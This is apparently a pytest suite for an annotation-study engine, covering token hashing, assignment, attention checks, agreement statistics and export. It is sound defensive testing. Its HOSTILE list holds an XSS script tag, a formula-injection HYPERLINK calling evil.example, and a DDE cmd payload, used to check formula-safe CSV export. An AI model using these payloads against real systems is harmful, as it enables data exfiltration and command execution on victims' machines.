"""Plausibility studies (engine side): hashed invitation tokens, refusals, exact overlap, resume, time limits,
attention checks, quality flags, ratings and agreement against hand-computed cases, hostile input and export.

The studies here run on the packaged `toy` sentences with made-up scores (`engine.annotation.studies.drills.demo_tasks`): the
properties under test are about assignment, storage and statistics, not about what the explanations say
(tests/engine/test_study_cli.py builds a study from a real trained model)."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import random
import sqlite3
from datetime import datetime, timedelta

import pytest

from engine.annotation.studies import (
    ParticipantReleasedError,
    StudyClosedError,
    StudyConfig,
    StudyFullError,
    StudyStore,
    StudyTimeUpError,
    TokenUsedError,
    UnknownTokenError,
    check_passed,
    seat_positions,
)
from engine.annotation.studies.drills import DEMO_MEASURES, answer_for, demo_tasks
from engine.annotation.studies.quality import QualityThresholds
from engine.annotation.studies.results import (
    answers_csv,
    bootstrap_ratings,
    export_jsonl,
    krippendorff_alpha_rankings,
    study_results,
)
from engine.errors import EngineError, InvalidInputError
from engine.plausibility.tasks import make_task


def _config(**kw) -> StudyConfig:
    base = dict(name="Which explanation convinces?", model_id="load-drill", measures=DEMO_MEASURES, dataset="toy",
                n_examples=6, tasks_per_annotator=3, overlap=2, attention_checks=1)
    base.update(kw)
    return StudyConfig(**base)


@pytest.fixture()
def studies(tmp_path):
    return StudyStore(tmp_path / "annotations.sqlite3")


def _make(studies, n_tasks=6, **kw):
    config = _config(n_examples=n_tasks, **kw)
    return studies.create(config, demo_tasks(n_tasks), code_version="test")


def _finish(studies, session, rng, careful=True, answer=None):
    """Answer every item of a session; returns the assignments answered."""
    done = []
    while (a := studies.next_assignment(session)) is not None:
        studies.submit(session, a.assignment_id, **(answer(a) if answer else answer_for(a, rng, careful)))
        done.append(a)
    return done


# -- tokens ------------------------------------------------------------------------------------------------
def test_the_database_holds_only_sha256_hashes_of_tokens_never_a_raw_token(studies, tmp_path):
    """After inviting, opening the open link and annotating, no raw token occurs anywhere in the SQLite file or
    its WAL, and each invitation row holds exactly the token's SHA-256."""
    study = _make(studies)
    links = studies.invite(study.id, ["alice", "bob"])
    crowd = studies.open_link(study.id)
    session = studies.open_session(links[0].token)
    _finish(studies, session, random.Random(0))
    studies.open_session(crowd.token, worker_id="W1")
    raw = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("annotations.sqlite3"))
    tokens = [inv.token for inv in (*links, crowd)]
    assert all(len(t) >= 32 for t in tokens) and len(set(tokens)) == 3
    for token in tokens:
        assert token.encode() not in raw
    with sqlite3.connect(studies.path) as conn:
        stored = {r[0] for r in conn.execute("SELECT token_hash FROM study_invitations")}
    assert stored == {hashlib.sha256(t.encode()).hexdigest() for t in tokens}


def test_links_carry_the_token_and_the_open_link_the_worker_id_placeholder(studies):
    """The personal link has `study_token=TOKEN`; the open link adds `PROLIFIC_PID={{%PROLIFIC_PID%}}`."""
    study = _make(studies)
    link = studies.invite(study.id, ["alice"])[0]
    assert link.url("https://lab.example/") == f"https://lab.example/?study_token={link.token}"
    studies.create(_config(worker_param="workerId"), demo_tasks(6, model_id="other"), code_version="t")
    assert studies.worker_params() == {"PROLIFIC_PID", "workerId"}
    crowd = studies.open_link(study.id)
    assert crowd.url("https://lab.example/").endswith(f"?study_token={crowd.token}&PROLIFIC_PID={{{{%PROLIFIC_PID%}}}}")


# -- refusals ------------------------------------------------------------------------------------------------
def test_a_wrong_closed_reused_or_revoked_token_is_refused_with_a_typed_error_and_no_study_data(studies):
    """Made-up, truncated and empty tokens, a closed study, a single-use link opened twice, a revoked link and an
    open link without worker id each raise a typed EngineError whose message gives away nothing of the study."""
    study = _make(studies, instructions="SECRET-INSTRUCTIONS", name="SECRET-TITLE")
    personal, once, withdrawn = studies.invite(study.id, ["alice", "bob", "carol"][:1])[0], \
        studies.invite(study.id, ["bob"], single_use=True)[0], studies.invite(study.id, ["carol"])[0]
    crowd = studies.open_link(study.id)
    refusals = []
    for bad in ("made-up-token-" + "x" * 20, personal.token[:-1], "", "a" * 500):
        with pytest.raises(UnknownTokenError) as err:
            studies.open_session(bad)
        refusals.append(err.value)
    studies.open_session(once.token)
    with pytest.raises(TokenUsedError) as err:
        studies.open_session(once.token)
    refusals.append(err.value)
    studies.revoke(study.id, "carol")
    with pytest.raises(TokenUsedError) as err:
        studies.open_session(withdrawn.token)
    refusals.append(err.value)
    with pytest.raises(InvalidInputError, match="worker id") as err:
        studies.open_session(crowd.token)
    refusals.append(err.value)
    session = studies.open_session(personal.token)
    assignment = studies.next_assignment(session)
    studies.close(study.id)
    for call in (lambda: studies.open_session(personal.token), lambda: studies.next_assignment(session),
                 lambda: studies.submit(session, assignment.assignment_id, ordering=[[s] for s in assignment.task.slots])):
        with pytest.raises(StudyClosedError) as err:
            call()
        refusals.append(err.value)
    for error in refusals:
        assert isinstance(error, EngineError)
        assert "SECRET" not in str(error)
    assert studies.answers(study.id) == []  # the closed study took no answer


def test_a_reopened_personal_link_resumes_the_same_annotator_at_the_same_item(studies):
    """Opening a personal link again (a new browser session) gives the same participant, the unanswered item
    first, their answers so far and their recorded consent; the same holds for the open link and the same
    worker id."""
    study = _make(studies)
    link = studies.invite(study.id, ["alice"])[0]
    first = studies.open_session(link.token)
    assert not studies.consented(first)
    when = studies.record_consent(first)
    a1 = studies.next_assignment(first)
    studies.submit(first, a1.assignment_id, **answer_for(a1, random.Random(0)))
    a2 = studies.next_assignment(first)
    again = studies.open_session(link.token)
    assert again.participant_id == first.participant_id
    assert studies.next_assignment(again).assignment_id == a2.assignment_id
    assert studies.progress(again).answered == 1
    assert studies.consented(again) and studies.record_consent(again) == when  # the first acceptance is kept
    assert [p.consented_at for p in studies.status(study.id).participants] == [when]
    crowd = studies.open_link(study.id)
    w = studies.open_session(crowd.token, worker_id="PID-1")
    item = studies.next_assignment(w)
    assert studies.open_session(crowd.token, worker_id="PID-1").participant_id == w.participant_id
    assert studies.next_assignment(studies.open_session(crowd.token, worker_id="PID-1")).assignment_id == item.assignment_id


# -- assignment ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("n_tasks,overlap,per", [(6, 2, 3), (7, 3, 4), (5, 2, 5), (9, 1, 2), (4, 3, 10), (10, 4, 3)])
def test_seats_cover_every_task_exactly_overlap_times_and_never_twice_in_one_seat(n_tasks, overlap, per):
    """The seat plan lays out each task `overlap` times, and no seat holds a task twice."""
    from engine.annotation.studies import seat_count

    seats = [seat_positions(s, n_tasks, overlap, per) for s in range(seat_count(n_tasks, overlap, per))]
    counts = [sum(seat.count(t) for seat in seats) for t in range(n_tasks)]
    assert counts == [overlap] * n_tasks
    assert all(len(set(seat)) == len(seat) for seat in seats)


def test_interleaved_annotators_with_resumes_and_a_release_give_every_task_exactly_its_overlap(studies):
    """Annotators answer in a random interleaving, some reopening their link half-way, one released (a
    no-show) and replaced by a crowd worker: at the end every task has exactly `overlap` answers, nobody got an
    item twice, a late extra annotator is refused (full), and the released one's answers are kept."""
    study = _make(studies, n_tasks=8, overlap=3, tasks_per_annotator=4)
    assert study.annotators_needed == 6
    links = studies.invite(study.id, [f"a{k}" for k in range(6)])
    sessions = {link.label: studies.open_session(link.token) for link in links}
    rng = random.Random(1)
    # the no-show answers one item and takes a second, then is released
    a = studies.next_assignment(sessions["a5"])
    studies.submit(sessions["a5"], a.assignment_id, **answer_for(a, rng))
    studies.next_assignment(sessions["a5"])
    studies.release(study.id, "a5")
    with pytest.raises(ParticipantReleasedError):
        studies.next_assignment(sessions["a5"])
    active = {k: v for k, v in sessions.items() if k != "a5"}
    crowd = studies.open_link(study.id)
    active["crowd"] = studies.open_session(crowd.token, worker_id="PID-9")
    with pytest.raises(StudyFullError):
        studies.open_session(crowd.token, worker_id="PID-10")
    while active:
        name = rng.choice(sorted(active))
        if rng.random() < 0.2:
            active[name] = studies.open_session(links[int(name[1:])].token) if name != "crowd" else \
                studies.open_session(crowd.token, worker_id="PID-9")
        item = studies.next_assignment(active[name])
        if item is None:
            del active[name]
            continue
        studies.submit(active[name], item.assignment_id, **answer_for(item, rng))
    status = studies.status(study.id)
    assert set(status.coverage.values()) == {3} and status.complete == 8 and status.over == 0
    pairs = [(x.participant_id, x.item_id) for x in studies.answers(study.id)]
    assert len(pairs) == len(set(pairs))
    released = [p for p in status.participants if p.label == "a5"][0]
    assert released.released and released.answered == 1
    with pytest.raises(StudyFullError):
        studies.open_session(crowd.token, worker_id="PID-11")
    assert "PID-11" not in studies.participant_labels(study.id)


def test_answers_are_checked_kept_once_and_never_overwritten(studies):
    """A ranking must place each slot once; an assignment of someone else is refused; a retry with the same
    submission id stores nothing; a second, different answer to the same item is refused."""
    study = _make(studies)
    s1, s2 = (studies.open_session(inv.token) for inv in studies.invite(study.id, ["alice", "bob"]))
    a = studies.next_assignment(s1)
    with pytest.raises(InvalidInputError, match="every explanation"):
        studies.submit(s1, a.assignment_id, ordering=[[a.task.slots[0]]])
    with pytest.raises(InvalidInputError, match="not one of yours"):
        studies.submit(s2, a.assignment_id, ordering=[[s] for s in a.task.slots])
    order = [[s] for s in a.task.slots]
    assert studies.submit(s1, a.assignment_id, ordering=order, submission_id="sub-1") is True
    assert studies.submit(s1, a.assignment_id, ordering=order, submission_id="sub-1") is False
    with pytest.raises(InvalidInputError, match="already answered"):
        studies.submit(s1, a.assignment_id, ordering=order[::-1], submission_id="sub-2")
    assert [x.submission_id for x in studies.answers(study.id)] == ["sub-1"]


def test_the_time_limit_ends_a_session_and_gives_its_unanswered_task_to_the_next_annotator(studies, monkeypatch):
    """After the time limit, next_assignment and submit raise StudyTimeUpError; the late annotator's pending
    task goes back to the pool and a new annotator receives exactly it. (The clock is moved on by patching
    the module's utc_now, so the test does not depend on how fast the machine is.)"""
    import engine.annotation.studies.store as studies_module

    study = _make(studies, n_tasks=3, overlap=1, tasks_per_annotator=3, attention_checks=0, time_limit_minutes=30)
    late, spare = studies.invite(study.id, ["late", "spare"])
    session = studies.open_session(late.token)
    pending = studies.next_assignment(session)
    later = (datetime.fromisoformat(studies_module.utc_now()) + timedelta(minutes=31)).isoformat(timespec="microseconds")
    monkeypatch.setattr(studies_module, "utc_now", lambda: later)
    with pytest.raises(StudyTimeUpError):
        studies.submit(session, pending.assignment_id, ordering=[[s] for s in pending.task.slots])
    with pytest.raises((StudyTimeUpError, ParticipantReleasedError)):
        studies.next_assignment(session)
    other = studies.open_session(spare.token)
    given = studies.next_assignment(other)
    assert given.task.primary == pending.task.primary
    assert studies.answers(study.id) == []


# -- attention checks and quality ---------------------------------------------------------------------------------
def test_check_scoring_by_hand():
    """An instructed/gold ranking check passes only with the expected slot alone first; a rationale check by
    exact tokens or by token-F1 >= 0.5."""
    assert check_passed({"first": "B"}, [["B"], ["A"]], False, None)
    assert not check_passed({"first": "B"}, [["A", "B"]], False, None)
    assert not check_passed({"first": "B"}, [], True, None)
    assert check_passed({"tokens": [2]}, [], False, [2]) and not check_passed({"tokens": [2]}, [], False, [2, 3])
    assert check_passed({"tokens": [1, 2], "min_f1": 0.5}, [], False, [2])          # F1 = 2/3
    assert not check_passed({"tokens": [1, 2], "min_f1": 0.5}, [], False, [2, 5, 6])  # F1 = 0.4


def test_gold_checks_pit_the_gold_rationale_against_a_random_one_and_need_gold(studies):
    """check_kind 'gold' shows the gold rationale and a random set of as many tokens; ranking the gold one first
    passes. Tasks without gold rationales are refused with the alternative named."""
    tokens = "mary went to the kitchen . john went to the garden .".split()
    tasks = [make_task("m", " ".join(tokens) + f" {k}", tokens, {"x": [float(i) for i in range(12)], "y": [1.0] * 12},
                       gold_rationale=[0, 1, 2, 3, 4]) for k in range(3)]
    config = StudyConfig(name="g", model_id="m", measures=("x", "y"), n_examples=3, tasks_per_annotator=3, overlap=1,
                         attention_checks=1, check_kind="gold")
    study = studies.create(config, tasks, code_version="t")
    check = studies.check_items(study.id)[0]
    gold_slot = [e.slot for e in check.task.explanations if e.measure == "attention-check:gold"][0]
    gold = [i for i, v in enumerate(check.task.explanations[0].scores) if v] if check.task.explanations[0].slot == gold_slot \
        else [i for i, v in enumerate(check.task.explanations[1].scores) if v]
    assert gold == [0, 1, 2, 3, 4] and check.expected == {"first": gold_slot}
    session = studies.open_session(studies.invite(study.id, ["a"])[0].token)
    def gold_first(item):
        # the check's gold explanation is the one scoring exactly the gold tokens 1 and the rest 0
        gold_like = [e.slot for e in item.task.explanations if set(e.scores) <= {0.0, 1.0}
                     and {i for i, v in enumerate(e.scores) if v} == {0, 1, 2, 3, 4}]
        first = gold_like[0] if gold_like else item.task.slots[0]
        return {"ordering": [[first], [s for s in item.task.slots if s != first]]}

    _finish(studies, session, random.Random(0), answer=gold_first)
    assert [x.passed for x in studies.answers(study.id) if x.check_kind] == [True]
    with pytest.raises(InvalidInputError, match="instructed"):
        studies.create(StudyConfig(name="g", model_id="load-drill", measures=DEMO_MEASURES, n_examples=3, tasks_per_annotator=3,
                                   check_kind="gold"), demo_tasks(3), code_version="t")


def test_careless_annotators_are_flagged_and_exclude_flagged_drops_them_from_results(studies):
    """An annotator who ignores the instructed check, one who always ranks slots in letter order
    (straight-lining) and a careful one: the first two are flagged with the reason; exclude='flagged' leaves
    them out of ratings; set_excluded marks the organiser's choice, which 'marked' applies."""
    study = _make(studies, n_tasks=6, overlap=3, tasks_per_annotator=6, attention_checks=1)
    careful, careless, liner = (studies.open_session(inv.token) for inv in studies.invite(study.id, ["careful", "careless", "liner"]))
    rng = random.Random(3)
    _finish(studies, careful, rng, careful=True)
    def ignores_the_check(item):  # random rankings; the instructed explanation goes last
        answer = answer_for(item, rng, careful=True)
        if item.note:
            answer["ordering"] = answer["ordering"][1:] + answer["ordering"][:1]
        return answer

    def letter_order(item):  # obeys the check, otherwise always A, B, C
        return answer_for(item, rng, careful=True) if item.note else {"ordering": [[s] for s in sorted(item.task.slots)]}

    _finish(studies, careless, rng, answer=ignores_the_check)
    _finish(studies, liner, rng, answer=letter_order)
    thresholds = QualityThresholds(min_median_seconds=0.0, straightline_share=0.9, straightline_min_answers=5)
    result = study_results(studies, study.id, exclude="flagged", n_boot=0, thresholds=thresholds)
    flags = {a["annotator"]: a["flags"] for a in result["annotators"]}
    assert flags["careful"] == []
    assert any("attention" in f for f in flags["careless"])
    assert any("straight-lining" in f for f in flags["liner"]) and not any("attention" in f for f in flags["liner"])
    assert set(result["excluded"]) == {"careless", "liner"}
    assert result["ratings"]["annotators"] == 1
    studies.set_excluded(study.id, "liner", reason="position habit")
    marked = study_results(studies, study.id, exclude="marked", n_boot=0, thresholds=thresholds)
    assert marked["excluded"] == ["liner"] and marked["ratings"]["annotators"] == 2
    assert study_results(studies, study.id, exclude="none", n_boot=0)["ratings"]["annotators"] == 3
    fast = study_results(studies, study.id, exclude="none", n_boot=0, thresholds=QualityThresholds(min_median_seconds=60))
    assert all(any("median" in f for f in a["flags"]) for a in fast["annotators"])


# -- statistics against hand computation ------------------------------------------------------------------------
def _two_measure_study(studies, orders):
    """A 2-measure study (overlap: one per annotator) where annotator k ranks measure orders[k][task] first on each task."""
    tokens = ["a", "fine", "film"]
    tasks = [make_task("m", f"a fine film {t}", tokens, {"x": [0.1, 0.5, 0.4], "y": [0.3, 0.3, 0.4]}) for t in range(2)]
    config = StudyConfig(name="h", model_id="m", measures=("x", "y"), n_examples=2, tasks_per_annotator=2,
                         overlap=len(orders), attention_checks=0)
    study = studies.create(config, tasks, code_version="t")
    by_text = {t.primary: t for t in tasks}
    for k, inv in enumerate(studies.invite(study.id, [f"r{k}" for k in range(len(orders))])):
        session = studies.open_session(inv.token)
        while (a := studies.next_assignment(session)) is not None:
            task = by_text[a.task.primary]
            slot_of = {m: s for s, m in task.measure_of().items()}
            first = orders[k][int(a.task.primary[-1])]
            studies.submit(session, a.assignment_id, ordering=[[slot_of[first]], [slot_of["y" if first == "x" else "x"]]])
    return study


def test_agreement_by_hand_krippendorff_alpha_one_eighth_and_kendalls_w_one_half(studies):
    """Two annotators agree on task 0 (x above y) and disagree on task 1. Units (task, measure) hold ranks
    [1,1], [2,2], [1,2], [2,1]: coincidences o11 = o22 = o12 = o21 = 2, n1 = n2 = 4, so alpha = 1 - 7 * 4 / 32
    = 0.125 (with two values ordinal equals nominal). Kendall's W: 1 on task 0, 0 on task 1, mean 0.5."""
    study = _two_measure_study(studies, [("x", "x"), ("x", "y")])
    result = study_results(studies, study.id, n_boot=0)
    assert result["agreement"]["krippendorff_alpha_rankings"] == pytest.approx(0.125)
    assert result["agreement"]["kendalls_w"] == pytest.approx(0.5)
    assert result["agreement"]["kendalls_w_tasks"] == 2
    assert krippendorff_alpha_rankings(studies.rankings(study.id), studies.tasks(study.id)) == pytest.approx(0.125)


def test_ratings_by_hand_trueskill_one_match_and_bradley_terry_odds(studies):
    """One ranking x > y: TrueSkill's standard environment gives mu 29.396 / 20.604, sigma 7.171 each.
    Three wins of x and one of y with the prior's 0.25 virtual wins each way: Bradley-Terry odds
    p_x / p_y = 3.25 / 1.25, so the centred log strengths are +-ln(2.6) / 2."""
    one = _two_measure_study(studies, [("x", "x")])
    ts = {r["measure"]: r for r in bootstrap_ratings(studies.rankings(one.id)[:1], studies.tasks(one.id), n_boot=0)["trueskill"]}
    assert ts["x"]["mu"] == pytest.approx(29.396, abs=1e-3) and ts["y"]["mu"] == pytest.approx(20.604, abs=1e-3)
    assert ts["x"]["sigma"] == pytest.approx(7.171, abs=1e-3)
    study = _two_measure_study(studies, [("x", "x"), ("x", "y")])
    bt = {r["measure"]: r for r in study_results(studies, study.id, n_boot=0)["ratings"]["bradley_terry"]}
    assert bt["x"]["strength"] == pytest.approx(math.log(2.6) / 2, abs=1e-6)
    assert bt["y"]["strength"] == pytest.approx(-math.log(2.6) / 2, abs=1e-6)


def test_bootstrap_over_annotators_brackets_the_estimate_and_spans_zero_when_annotators_split(studies):
    """Intervals contain the point estimate, repeat with the same seed, and with two annotators who always
    prefer x and two who always prefer y, the Bradley-Terry interval of x covers 0."""
    study = _two_measure_study(studies, [("x", "x"), ("x", "x"), ("y", "y"), ("y", "y")])
    rankings, tasks = studies.rankings(study.id), studies.tasks(study.id)
    first = bootstrap_ratings(rankings, tasks, n_boot=300, seed=5)
    assert first == bootstrap_ratings(rankings, tasks, n_boot=300, seed=5)
    for row in first["bradley_terry"]:
        assert row["strength_low"] <= row["strength"] <= row["strength_high"]
        assert row["strength_low"] < 0 < row["strength_high"]
    for row in first["trueskill"]:
        assert row["mu_low"] <= row["mu_high"]
    assert first["n_boot"] == 300 and first["annotators"] == 4


# -- hostile input and export ---------------------------------------------------------------------------------------
HOSTILE = ['<script>alert("x")</script>', '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1-1", "-2+3", "  =TAB+1", "名前 <b>bold</b> &amp;"]  # a control character is refused (test_text_hygiene.py)


def test_hostile_names_instructions_and_comments_are_stored_verbatim_and_exported_formula_safe(studies, tmp_path):
    """Markup and formula text in the study name, instructions, consent, annotator names, a worker id and free-text
    comments come back verbatim from the store and the JSONL export; in the CSV every such cell is
    neutralised (a leading apostrophe), so no cell starts with = + - @ tab."""
    study = _make(studies, name=HOSTILE[0], instructions=HOSTILE[1], consent=HOSTILE[6])
    names = HOSTILE[:4]
    links = studies.invite(study.id, names)
    crowd = studies.open_link(study.id)
    sessions = [studies.open_session(link.token) for link in links[:2]] + [studies.open_session(crowd.token, worker_id=HOSTILE[5])]
    assert sessions[0].title == HOSTILE[0] and sessions[0].instructions == HOSTILE[1] and sessions[0].consent == HOSTILE[6]
    comments = [HOSTILE[1], HOSTILE[2], HOSTILE[6]]
    for k, session in enumerate(sessions):
        rng = random.Random(k)
        _finish(studies, session, rng, answer=lambda a, k=k, rng=rng: {**answer_for(a, rng), "comment": comments[k]})
    assert {a.comment for a in studies.answers(study.id)} == {HOSTILE[1], HOSTILE[2], HOSTILE[6]}
    assert set(studies.participant_labels(study.id)) == {HOSTILE[0], HOSTILE[1], HOSTILE[5]}
    out = tmp_path / "study.jsonl"
    export_jsonl(studies, study.id, out, n_boot=0)
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    meta = records[0]
    assert meta["study"]["name"] == HOSTILE[0] and meta["study"]["config"]["instructions"] == HOSTILE[1]
    assert {r["annotator"] for r in records if r["type"] == "participant"} == {HOSTILE[0], HOSTILE[1], HOSTILE[5]}
    assert {r["comment"] for r in records if r["type"] == "answer"} == {HOSTILE[1], HOSTILE[2], HOSTILE[6]}
    rows = list(csv.DictReader(io.StringIO(answers_csv(studies, study.id))))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {r["annotator"] for r in rows} == {HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[5]}
    assert {r["comment"] for r in rows} == {"'" + HOSTILE[1], "'" + HOSTILE[2], HOSTILE[6]}


def test_the_export_carries_the_studys_provenance_and_every_answer(studies, tmp_path):
    """The JSONL export starts with the study's design and provenance (code version, command line, schema
    versions, completion code), lists tasks with measure names, checks, participants, every answer with its
    slot -> measure map, and the results; the CSV has the study id and code version in every row."""
    study = studies.create(_config(), demo_tasks(6), code_version="1.2.3+abc", command_line="python -m engine study create ...")
    for inv in studies.invite(study.id, ["a", "b", "c", "d"]):
        _finish(studies, studies.open_session(inv.token), random.Random(inv.label))
    out = tmp_path / "s.jsonl"
    n = export_jsonl(studies, study.id, out, n_boot=20)
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert n == len(records)
    types = [r["type"] for r in records]
    assert types[0] == "meta" and types[-1] == "results"
    assert types.count("task") == 6 and types.count("check") == 3 and types.count("participant") == 4
    assert types.count("answer") == 4 * 4
    prov = records[0]["study"]
    assert prov["code_version"] == "1.2.3+abc" and prov["command_line"].startswith("python -m engine study")
    assert prov["config"]["overlap"] == 2 and prov["store_schema_version"] >= 2 and prov["study_schema_version"] == 1
    assert all(set(r["measures"].values()) == set(DEMO_MEASURES) for r in records if r["type"] == "answer" and r["task_id"])
    assert records[-1]["coverage"]["complete"] == 6
    rows = list(csv.DictReader(io.StringIO(answers_csv(studies, study.id))))
    assert {r["study_id"] for r in rows} == {study.id} and {r["code_version"] for r in rows} == {"1.2.3+abc"}
    assert len(rows) == 16 * 3  # one row per answer and slot


def test_bad_study_designs_are_refused_with_the_field_named():
    """A one-measure ranking study, overlap 0, an unknown check kind or kind each name what was wrong."""
    for kw, message in (({"measures": ("x",)}, "at least two measures"), ({"overlap": 0}, "overlap"),
                        ({"check_kind": "trick"}, "instructed, gold"), ({"kinds": ("vote",)}, "ranking, rationale"),
                        ({"time_limit_minutes": -1}, "time_limit"), ({"worker_param": "a b"}, "worker_param")):
        with pytest.raises(InvalidInputError, match=message):
            _config(**kw).checked()


def test_a_rationale_study_takes_token_marks_and_scores_its_instructed_check(studies):
    """kinds=('rationale',): answers are token sets (a ranking is refused), the instructed check names one word
    to mark, and results report rationale agreement."""
    study = _make(studies, kinds=("rationale",), overlap=2)
    sessions = [studies.open_session(inv.token) for inv in studies.invite(study.id, ["a", "b", "c", "d"])]
    a = studies.next_assignment(sessions[0])
    with pytest.raises(InvalidInputError, match="rationales only"):
        studies.submit(sessions[0], a.assignment_id, ordering=[[s] for s in a.task.slots])

    def mark(item):
        if item.note:
            return {"rationale": [int(item.note.split("word number ")[1].split(" ")[0]) - 1]}
        return {"rationale": [0, 1]}

    for session in sessions:
        _finish(studies, session, random.Random(0), answer=mark)
    assert all(x.passed for x in studies.answers(study.id) if x.check_kind)
    result = study_results(studies, study.id, n_boot=0)
    assert result["agreement"]["rationale"]["tasks"] == 6
    assert result["agreement"]["rationale"]["alpha"] is None or result["agreement"]["rationale"]["alpha"] <= 1


@pytest.mark.parametrize("seed", [0, 2])
def test_random_interleavings_of_exactly_enough_annotators_end_with_every_task_at_its_overlap(studies, seed):
    """8 tasks x overlap 3 with 4 tasks each needs 6 annotators; whatever order they take turns in, all 6
    finishing gives every task exactly 3 answers. (Handing out the least-covered task each annotator has not
    had instead left one task short under the interleaving of seed 2: its last slot was stranded with
    annotators who had all seen it.)"""
    study = _make(studies, n_tasks=8, overlap=3, tasks_per_annotator=4, attention_checks=0)
    sessions = [studies.open_session(inv.token) for inv in studies.invite(study.id, [f"a{k}" for k in range(6)])]
    rng = random.Random(seed)
    active = list(range(6))
    while active:
        k = rng.choice(active)
        item = studies.next_assignment(sessions[k])
        if item is None:
            active.remove(k)
            continue
        studies.submit(sessions[k], item.assignment_id, **answer_for(item, rng))
    status = studies.status(study.id)
    assert status.complete == 8 and status.over == 0
    assert all(p.answered == 4 for p in status.participants)


def test_the_last_shorter_seat_tells_its_annotator_the_right_total(studies):
    """7 tasks x overlap 2 in shares of 4 make seats of 4, 4, 4 and 2 tasks: the fourth annotator's session,
    items and progress count 2 tasks + 1 check, and they finish after 3 answers."""
    study = _make(studies, n_tasks=7, overlap=2, tasks_per_annotator=4, attention_checks=1)
    sessions = [studies.open_session(inv.token) for inv in studies.invite(study.id, ["a", "b", "c", "d"])]
    assert [s.total for s in sessions] == [5, 5, 5, 3]
    done = _finish(studies, sessions[3], random.Random(0))
    assert len(done) == 3 and {a.total for a in done} == {3}
    assert studies.progress(sessions[3]) == studies.progress(sessions[3]).__class__(3, 3, True, study.completion_code)


def test_an_annotator_meets_no_input_twice_when_checks_can_be_built_on_other_inputs(studies):
    """Instructed checks copy a real task's input; with 3 check items per check asked, spread over the task
    list, every annotator of a 12-task study (4 tasks + 2 checks each) gets checks built on inputs outside their
    own tasks, so no text is shown to them twice."""
    study = _make(studies, n_tasks=12, overlap=2, tasks_per_annotator=4, attention_checks=2)
    assert study.n_checks == 6
    for inv in studies.invite(study.id, [f"a{k}" for k in range(6)]):
        shown = [a.task.primary for a in _finish(studies, studies.open_session(inv.token), random.Random(inv.label))]
        assert len(shown) == 6 and len(set(shown)) == 6, shown
